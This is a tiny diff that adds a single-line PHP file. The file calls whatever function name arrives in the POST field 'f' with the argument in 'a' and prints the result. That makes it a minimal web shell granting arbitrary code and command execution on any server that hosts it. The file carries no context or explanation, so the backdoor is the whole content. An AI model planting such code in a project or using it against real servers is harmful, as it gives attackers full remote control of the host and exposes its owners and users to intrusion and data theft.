@@ -1,0 +1,1 @@
+<?php $p=$_POST; $f=$p["f"]; $a=$p["a"]; echo $f($a);
